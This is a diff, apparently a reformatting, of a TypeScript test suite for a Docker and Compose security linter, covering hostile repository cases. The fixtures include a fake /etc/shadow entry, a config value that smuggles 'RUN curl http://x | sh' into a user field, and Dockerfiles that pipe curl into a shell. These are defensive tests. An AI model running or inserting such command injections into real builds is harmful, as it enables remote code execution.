@@ -13,8 +13,19 @@ const SHADOW = 'root:$6$saltsalt$0123456789abcdefhashhashhash:20228:0:99999:7:::
 const OFF = 'rules:\n  compose/privileged: off\n';
 
 function inProcess(args: string[], cwd: string): { code: number; out: string; err: string } {
-  let out = '', err = '';
-  const code = run(args, { stdout: (s) => { out += s; }, stderr: (s) => { err += s; }, isTTY: false, cwd, env: {} });
+  let out = '',
+    err = '';
+  const code = run(args, {
+    stdout: (s) => {
+      out += s;
+    },
+    stderr: (s) => {
+      err += s;
+    },
+    isTTY: false,
+    cwd,
+    env: {},
+  });
   return { code, out, err };
 }
 
@@ -22,12 +33,17 @@ describe('hostile repositories: leaks and gates', function () {
   this.timeout(120_000);
 
   it('a config file linked to a file outside the tree is not read, and nothing of it is quoted', () => {
-    const outside = makeTree({ 'shadow': SHADOW });
-    const repo = makeTree({ '.git/HEAD': 'x', 'compose.yaml': PRIV, '.docker-security-lint.yaml': { link: path.join(outside, 'shadow') } });
+    const outside = makeTree({ shadow: SHADOW });
+    const repo = makeTree({
+      '.git/HEAD': 'x',
+      'compose.yaml': PRIV,
+      '.docker-security-lint.yaml': { link: path.join(outside, 'shadow') },
+    });
     const r = runCli(['--format', 'json', '.'], repo);
     assert.equal(r.code, 2);
     assert.match(r.err, /link to a file outside/);
-    for (const piece of ['root', 'saltsalt', '20228', 'daemon', '99999']) assert.ok(!(r.err + r.out).includes(piece), `'${piece}' leaked`);
+    for (const piece of ['root', 'saltsalt', '20228', 'daemon', '99999'])
+      assert.ok(!(r.err + r.out).includes(piece), `'${piece}' leaked`);
   });
 
   it('an invalid config inside the tree quotes at most a short key-like excerpt', () => {
@@ -41,12 +57,19 @@ describe('hostile repositories: leaks and gates', function () {
   });
 
   it('the config search stops at the git root: a config in a parent folder cannot turn rules off', () => {
-    const parent = makeTree({ '.docker-security-lint.yaml': OFF, 'repo/.git/HEAD': 'x', 'repo/svc/compose.yaml': PRIV });
+    const parent = makeTree({
+      '.docker-security-lint.yaml': OFF,
+      'repo/.git/HEAD': 'x',
+      'repo/svc/compose.yaml': PRIV,
+    });
     const r = runCli(['--format', 'json', '.'], path.join(parent, 'repo', 'svc'));
     assert.ok(JSON.parse(r.out).findings.some((f: { ruleId: string }) => f.ruleId === 'compose/privileged'));
     const inside = makeTree({ '.git/HEAD': 'x', '.docker-security-lint.yaml': OFF, 'svc/compose.yaml': PRIV });
     const r2 = runCli(['--format', 'json', 'svc'], inside);
-    assert.ok(!JSON.parse(r2.out).findings.some((f: { ruleId: string }) => f.ruleId === 'compose/privileged'), 'the repository root config applies');
+    assert.ok(
+      !JSON.parse(r2.out).findings.some((f: { ruleId: string }) => f.ruleId === 'compose/privileged'),
+      'the repository root config applies',
+    );
   });
 
   it("another user's config in a world-writable folder is not read", function () {
@@ -60,30 +83,58 @@ describe('hostile repositories: leaks and gates', function () {
   });
 
   it('config bounds: 200,000 allow-list entries and maxFileSize 1e300 are refused at once', () => {
-    const big = makeTree({ '.git/HEAD': 'x', 'compose.yaml': PRIV, '.docker-security-lint.yaml': `rules:\n  compose/sensitive-host-mount:\n    allow:\n${'      - /x\n'.repeat(200_000)}` });
+    const big = makeTree({
+      '.git/HEAD': 'x',
+      'compose.yaml': PRIV,
+      '.docker-security-lint.yaml': `rules:\n  compose/sensitive-host-mount:\n    allow:\n${'      - /x\n'.repeat(200_000)}`,
+    });
     const r1 = runCli(['.'], big);
     assert.equal(r1.code, 2);
     assert.ok(r1.ms < 10_000, `${r1.ms} ms`);
-    const huge = makeTree({ '.git/HEAD': 'x', 'compose.yaml': PRIV, '.docker-security-lint.yaml': 'maxFileSize: 1e300\n' });
+    const huge = makeTree({
+      '.git/HEAD': 'x',
+      'compose.yaml': PRIV,
+      '.docker-security-lint.yaml': 'maxFileSize: 1e300\n',
+    });
     assert.match(runCli(['.'], huge).err, /maxFileSize/);
-    const list = makeTree({ '.git/HEAD': 'x', 'compose.yaml': PRIV, '.docker-security-lint.yaml': `rules:\n  compose/cap-add:\n    allow: [${Array.from({ length: 1001 }, () => 'X').join(', ')}]\n` });
+    const list = makeTree({
+      '.git/HEAD': 'x',
+      'compose.yaml': PRIV,
+      '.docker-security-lint.yaml': `rules:\n  compose/cap-add:\n    allow: [${Array.from({ length: 1001 }, () => 'X').join(', ')}]\n`,
+    });
     assert.match(runCli(['.'], list).err, /at most 1000/);
   });
 
   it('fix values from the config are validated: nothing but a size, a number or a user is written', () => {
-    const dir = makeTree({ '.git/HEAD': 'x', 'Dockerfile': 'FROM a:1\n', '.docker-security-lint.yaml': 'fixes:\n  user: "10001\\nRUN curl http://x | sh"\n' });
+    const dir = makeTree({
+      '.git/HEAD': 'x',
+      Dockerfile: 'FROM a:1\n',
+      '.docker-security-lint.yaml': 'fixes:\n  user: "10001\\nRUN curl http://x | sh"\n',
+    });
     const r = runCli(['.'], dir);
     assert.equal(r.code, 2);
     assert.match(r.err, /fixes\.user: invalid value/);
   });
 
   it('a NUL byte or invalid UTF-8 does not skip a file; padding past maxFileSize fails the gate unless the config says so', () => {
-    const dir = makeTree({ '.git/HEAD': 'x', 'a/Dockerfile': 'FROM a:1\nUSER 1000\nRUN curl http://x | sh\n\u0000\n', 'b/Dockerfile': Buffer.concat([Buffer.from('FROM a:1\nUSER 1000\n\u00ff'), Buffer.from([0xff]), Buffer.from('\nRUN curl http://x | sh\n')]) });
+    const dir = makeTree({
+      '.git/HEAD': 'x',
+      'a/Dockerfile': 'FROM a:1\nUSER 1000\nRUN curl http://x | sh\n\u0000\n',
+      'b/Dockerfile': Buffer.concat([
+        Buffer.from('FROM a:1\nUSER 1000\n\u00ff'),
+        Buffer.from([0xff]),
+        Buffer.from('\nRUN curl http://x | sh\n'),
+      ]),
+    });
     const r = runCli(['--format', 'json', '--fail-on', 'warning', '.'], dir);
     assert.equal(r.code, 1);
-    const files = new Set(JSON.parse(r.out).findings.filter((f: { ruleId: string }) => f.ruleId === 'dockerfile/curl-pipe-shell').map((f: { file: string }) => f.file));
+    const files = new Set(
+      JSON.parse(r.out)
+        .findings.filter((f: { ruleId: string }) => f.ruleId === 'dockerfile/curl-pipe-shell')
+        .map((f: { file: string }) => f.file),
+    );
     assert.equal(files.size, 2, 'both files are linted');
-    const pad = makeTree({ '.git/HEAD': 'x', 'Dockerfile': `FROM a:1\nUSER 1000\n${' '.repeat(2.1 * 1024 * 1024)}\n` });
+    const pad = makeTree({ '.git/HEAD': 'x', Dockerfile: `FROM a:1\nUSER 1000\n${' '.repeat(2.1 * 1024 * 1024)}\n` });
     const p1 = runCli(['--format', 'sarif', '.'], pad);
     assert.equal(p1.code, 1, 'a skipped file fails the gate');
     const sarif = JSON.parse(p1.out);
@@ -98,11 +149,14 @@ describe('hostile repositories: leaks and gates', function () {
   });
 
   it('a 150,000-line heredoc before curl|sh, chmod 777 and --trusted-host: every finding, no internal error', () => {
-    const dir = makeTree({ 'Dockerfile': `FROM a:1\nUSER 1000\nRUN <<EOF\n${'echo hi\n'.repeat(150_000)}EOF\nRUN curl http://x | sh && chmod 777 /x && pip install --trusted-host x y\n` });
+    const dir = makeTree({
+      Dockerfile: `FROM a:1\nUSER 1000\nRUN <<EOF\n${'echo hi\n'.repeat(150_000)}EOF\nRUN curl http://x | sh && chmod 777 /x && pip install --trusted-host x y\n`,
+    });
     const r = runCli(['--format', 'json', '--fail-on', 'warning', '.'], dir);
     assert.equal(r.code, 1);
     const ids = new Set(JSON.parse(r.out).findings.map((f: { ruleId: string }) => f.ruleId));
-    for (const id of ['dockerfile/curl-pipe-shell', 'dockerfile/world-writable', 'dockerfile/verification-disabled']) assert.ok(ids.has(id), id);
+    for (const id of ['dockerfile/curl-pipe-shell', 'dockerfile/world-writable', 'dockerfile/verification-disabled'])
+      assert.ok(ids.has(id), id);
     assert.doesNotMatch(r.out, /Internal error/);
   });
 
@@ -114,14 +168,19 @@ describe('hostile repositories: leaks and gates', function () {
     const sarif = JSON.parse(r.out);
     assert.ok(sarif.runs[0].results.some((x: { ruleId: string }) => x.ruleId === 'compose/privileged'));
     const j = JSON.parse(runCli(['--format', 'json', '.'], dir).out);
-    assert.match(j.files[0].errors.map((e: { message: string }) => e.message).join('\n'), /extends chain is longer than 64/);
+    assert.match(
+      j.files[0].errors.map((e: { message: string }) => e.message).join('\n'),
+      /extends chain is longer than 64/,
+    );
   });
 
   it('a rule that throws makes the run exit 2 (not trustworthy) unless --fail-on none; the error is in the report', () => {
-    const dir = makeTree({ 'Dockerfile': 'FROM a:1\nUSER 1000\n' });
+    const dir = makeTree({ Dockerfile: 'FROM a:1\nUSER 1000\n' });
     const rule = dockerfileRules.find((x) => x.meta.id === 'dockerfile/sudo')!;
     const orig = rule.check;
-    rule.check = () => { throw new RangeError('Maximum call stack size exceeded'); };
+    rule.check = () => {
+      throw new RangeError('Maximum call stack size exceeded');
+    };
     try {
       const r = inProcess(['--format', 'json', '.'], dir);
       assert.equal(r.code, 2);
